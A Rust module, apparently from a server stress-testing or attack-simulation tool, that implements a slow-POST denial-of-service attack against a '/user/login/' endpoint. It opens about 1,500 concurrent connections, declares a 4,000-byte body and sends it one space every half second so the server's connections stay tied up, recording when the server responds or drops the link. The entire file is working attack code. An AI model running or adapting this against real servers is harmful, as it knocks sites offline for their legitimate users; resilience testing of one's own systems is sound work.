//! Log-ins with a body that is sent byte by byte and never ends.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::AsyncWriteExt as _,
    time::{sleep, timeout},
};

use super::raw_http::{post_head, read_until_closed};
use crate::context::{AttackContext, run_concurrently};

const CONNECTIONS: usize = 1_500;
const LENGTH_BYTES: usize = 4_000;
const BETWEEN_BYTES: Duration = Duration::from_millis(500);
/// After a connection that was cut at once.
const PAUSE: Duration = Duration::from_millis(50);

pub(super) async fn run(context: Arc<AttackContext>) {
    run_concurrently(context.scaled(CONNECTIONS), |_| attack(Arc::clone(&context))).await;
}

async fn attack(context: Arc<AttackContext>) {
    let from = context.address(0, 1);
    for _ in 0..context.calls_max {
        let Some(mut stream) = context.connect(from).await else { continue };
        if stream.write_all(&post_head("/user/login/", LENGTH_BYTES)).await.is_err() {
            continue;
        }
        for _ in 1..LENGTH_BYTES {
            if let Ok(status) = timeout(BETWEEN_BYTES, read_until_closed(&mut stream)).await {
                context.observe(status.as_deref().unwrap_or("cut"));
                break;
            }
            if stream.write_all(b" ").await.is_err() {
                context.observe("cut");
                break;
            }
        }
        sleep(PAUSE).await;
    }
}
